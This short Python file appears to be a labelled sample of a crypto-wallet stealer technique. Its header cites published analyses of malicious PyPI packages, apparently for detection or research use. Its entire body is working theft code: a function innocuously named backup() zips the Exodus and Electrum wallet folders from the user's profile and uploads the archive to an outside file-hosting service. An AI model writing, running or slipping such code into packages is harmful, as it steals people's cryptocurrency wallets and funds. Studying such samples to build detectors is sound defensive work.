# technique: Exodus / Electrum wallet directories zipped and uploaded
# class: wallet
# source: Checkmarx and Phylum write-ups of crypto-wallet stealers on PyPI (W4SP, BlazeStealer)
# declares: network, fs-write
import os
import shutil

import requests


def backup():
    for wallet in ("Exodus/exodus.wallet", "Electrum/wallets"):
        src = os.path.join(os.environ.get("APPDATA", os.path.expanduser("~")), wallet)
        if os.path.isdir(src):
            z = shutil.make_archive("/tmp/w", "zip", src)
            requests.post("https://store1.gofile.io/uploadFile", files={"file": open(z, "rb")}, timeout=20)
